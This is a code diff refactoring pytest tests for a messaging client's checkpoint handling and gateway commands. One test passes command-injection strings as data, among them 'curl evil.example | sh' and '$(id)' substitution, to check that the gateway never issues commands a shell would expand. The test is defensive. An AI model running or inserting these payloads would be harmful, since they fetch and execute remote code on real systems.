@@ -251,11 +251,12 @@ def test_what_was_read_is_kept_and_only_newer_events_are_read(tmp_path: Path) ->
         list(MemberClient(there.stage, OFMIN, checkpoint_file=file).inbox())
 
 
-@pytest.mark.parametrize("damage", ["", "{}", "[]", "[1, 2, 3]", "another member's"])
-def test_what_is_damaged_or_of_another_is_read_anew(tmp_path: Path, damage: str) -> None:
+@each("damage", ["", "{}", "[]", "[1, 2, 3]", "another member's"])
+def test_what_is_damaged_or_of_another_is_read_anew(
+    tmp_path: Path, there: Scene, damage: str
+) -> None:
     file = tmp_path / "newest.checkpoint"
-    there = scene(checkpoint_file=file)
-    list(there.office.inbox())
+    list(MemberClient(there.stage, OFMIN, checkpoint_file=file).inbox())
     kept = file.with_name("newest.checkpoint.stream")
     told = kept.read_text().replace(OFMIN, HOTLINE) if damage == "another member's" else damage
     kept.write_text(told)
@@ -290,13 +291,16 @@ def test_a_gateway_hides_no_offer_by_saying_that_it_did_not_look(scope: str | No
         there.office.worklist()
 
 
-@pytest.mark.parametrize("member", ["command", "handoff"])
-@pytest.mark.parametrize(
-    "words", ["handoff show x; curl evil.example | sh", "show $(id)", "-c x todo", "todo\nid"]
-)
-def test_a_gateway_gives_no_command_that_a_shell_reads_as_more(member: str, words: str) -> None:
-    there = scene()
+@pytest.fixture
+def there() -> Scene:
+    return scene()
 
+
+@each("member", ["command", "handoff"])
+@each("words", ["handoff show x; curl evil.example | sh", "show $(id)", "-c x todo", "todo\nid"])
+def test_a_gateway_gives_no_command_that_a_shell_reads_as_more(
+    there: Scene, member: str, words: str
+) -> None:
     def commanding(request: httpx.Request, members: dict[str, Any]) -> Any:
         if request.url.path == "/worklist":
             members["items"][0][member] = words
